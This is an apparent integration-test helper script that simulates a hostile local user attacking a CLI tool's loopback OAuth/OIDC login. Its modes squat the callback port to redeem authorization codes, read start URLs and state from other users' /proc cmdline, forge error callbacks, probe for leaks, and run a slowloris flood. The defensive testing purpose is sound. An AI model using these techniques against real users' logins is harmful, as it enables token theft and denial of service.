// Another local user attacking oidc-cred's loopback login (test/integration/loopback-attacks.test.ts
// runs it as a second account with `runuser`). Plain JavaScript with no imports outside node:, so
// that an account that cannot read the repository can run a copy of it.
//
//   node loopback-attacker.mjs squat PORT ISSUER CLIENT_ID   hold [::1]:PORT; take whatever browser
//                                                           arrives, send it to an authorization
//                                                           request of our own, redeem the code
//   node loopback-attacker.mjs reader PORT                   find the start URL in another user's
//                                                           process list (/proc/*/cmdline), GET it
//   node loopback-attacker.mjs scan PORT                     what a port scanner can learn
//   node loopback-attacker.mjs slowloris PORT N              hold N connections with slow heads
//
// Every finding is one line on stdout (`event key=value…`); it exits when stdin ends (or after
// 120 s), so the test that started it can stop it without signalling another user's process.
import { createHash, randomBytes } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { request, createServer } from 'node:http';
import { connect } from 'node:net';

const [mode, ...args] = process.argv.slice(2);
const say = (line) => process.stdout.write(`${line}\n`);
process.stdin.on('data', () => undefined).on('end', () => process.exit(0));
setTimeout(() => process.exit(0), 120_000).unref();

function get(port, path, { host = '127.0.0.1', method = 'GET' } = {}) {
  return new Promise((resolve) => {
    const req = request({ host, port, path, method, headers: { host: `127.0.0.1:${port}` }, agent: false }, (res) => {
      let body = '';
      res.setEncoding('utf8').on('data', (d) => (body += d));
      res.on('end', () => resolve({ status: res.statusCode, location: res.headers.location ?? '', body }));
    });
    req.on('error', (e) => resolve({ status: `ERR:${e.code}`, location: '', body: '' }));
    req.end();
  });
}

async function squat(port, issuer, clientId) {
  const meta = await (await fetch(`${issuer}/.well-known/openid-configuration`)).json();
  const verifier = randomBytes(32).toString('base64url');
  const state = randomBytes(16).toString('base64url');
  const redirectUri = `http://localhost:${port}/callback`;
  const server = createServer(async (req, res) => {
    const url = new URL(req.url, 'http://x');
    if (url.pathname === '/callback' && url.searchParams.get('state') === state && url.searchParams.get('code')) {
      say('got-code');
      const r = await fetch(meta.token_endpoint, {
        method: 'POST',
        body: new URLSearchParams({ grant_type: 'authorization_code', code: url.searchParams.get('code'), redirect_uri: redirectUri, client_id: clientId, code_verifier: verifier }),
      });
      const t = await r.json();
      // Never the token itself: the test only needs to know that it was obtained.
      say(t.access_token ? `stole-tokens refresh=${t.refresh_token ? 'yes' : 'no'}` : `redeem-failed ${t.error}`);
      res.writeHead(200, { 'content-type': 'text/html' }).end('<h1>Logged in</h1>');
      return;
    }
    if (url.pathname === '/') {
      say(`got-browser path=${req.url.slice(0, 60)}`);
      const challenge = createHash('sha256').update(verifier).digest('base64url');
      const auth = new URL(meta.authorization_endpoint);
      for (const [k, v] of Object.entries({ response_type: 'code', client_id: clientId, redirect_uri: redirectUri, scope: 'openid', state, code_challenge: challenge, code_challenge_method: 'S256' })) auth.searchParams.set(k, v);
      res.writeHead(302, { location: auth.href }).end();
      return;
    }
    say(`request ${req.method} ${req.url.slice(0, 60)}`);
    res.writeHead(404).end();
  });
  server.listen({ port, host: '::1', exclusive: true }, () => say(`listening port=${port}`));
  server.on('error', (e) => say(`listen-failed ${e.code}`));
}

/** The start URL of a login, as any user can read it from the browser's command line. */
function findStartUrl(port) {
  const re = new RegExp(`http://127\\.0\\.0\\.1:${port}/\\?k=[\\w-]+`);
  for (const pid of readdirSync('/proc')) {
    if (!/^\d+$/.test(pid) || Number(pid) === process.pid) continue;
    try {
      const m = re.exec(readFileSync(`/proc/${pid}/cmdline`, 'latin1'));
      if (m) return m[0];
    } catch {
      /* gone, or hidden (hidepid) */
    }
  }
  return undefined;
}

async function reader(port) {
  let url;
  const end = Date.now() + 30_000;
  while (!(url = findStartUrl(port)) && Date.now() < end) await new Promise((r) => setTimeout(r, 20));
  if (!url) return say('no-start-url');
  say('found-start-url');
  const u = new URL(url);
  const r = await get(port, u.pathname + u.search);
  const state = r.location ? new URL(r.location).searchParams.get('state') : null;
  say(`read status=${r.status} state=${state ? 'seen' : 'none'}`);
  // With the state in hand, a forged error= callback would end the login with our text.
  process.stdin.on('data', async (d) => {
    if (!String(d).includes('forge') || !state) return;
    const f = await get(port, `/callback?state=${encodeURIComponent(state)}&error=access_denied&error_description=forged-by-attacker`);
    say(`forged status=${f.status}`);
  });
}

async function scan(port) {
  const tries = [
    ['GET', '/'],
    ['HEAD', '/'],
    ['GET', '/?k='],
    ['GET', `/?k=${randomBytes(16).toString('base64url')}`],
    ['GET', '/callback'],
    ['GET', '/favicon.ico'],
    ['POST', '/'],
  ];
  for (const [method, path] of tries) {
    for (const host of ['127.0.0.1', '::1']) {
      const r = await get(port, path, { host, method });
      const leak = /state=|client_id=|code_challenge/.test(r.location + r.body);
      say(`scan ${method} ${path.slice(0, 8)} on=${host} status=${r.status} leak=${leak ? 'yes' : 'no'}`);
    }
  }
  say('scan-done');
}

async function slowloris(port, n) {
  // Wait for the server, as an attacker watching /proc/net/tcp would.
  for (;;) {
    const ok = await new Promise((r) => {
      const s = connect({ port, host: '127.0.0.1' }, () => {
        s.destroy();
        r(true);
      });
      s.on('error', () => r(false));
    });
    if (ok) break;
    await new Promise((r) => setTimeout(r, 20));
  }
  let open = 0;
  let closed = 0;
  for (let i = 0; i < n; i++) {
    await new Promise((resolve) => {
      const t0 = Date.now();
      const s = connect({ port, host: '127.0.0.1' }, () => {
        open++;
        resolve();
      });
      s.on('error', () => resolve());
      // Half drip a head one byte at a time, half send nothing at all.
      const head = 'GET /callback?state=x HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: ';
      let at = 0;
      const drip = i % 2 ? setInterval(() => s.write(head[at++ % head.length]), 200) : undefined;
      s.on('close', () => {
        clearInterval(drip);
        closed++;
        say(`closed i=${i} after_ms=${Date.now() - t0}`);
        if (closed === n) say('all-closed');
      });
    });
  }
  say(`open ${open}`);
}

if (mode === 'squat') await squat(Number(args[0]), args[1], args[2]);
else if (mode === 'reader') await reader(Number(args[0]));
else if (mode === 'scan') await scan(Number(args[0]));
else if (mode === 'slowloris') await slowloris(Number(args[0]), Number(args[1]));
else {
  process.stderr.write(`unknown mode ${mode}\n`);
  process.exit(2);
}
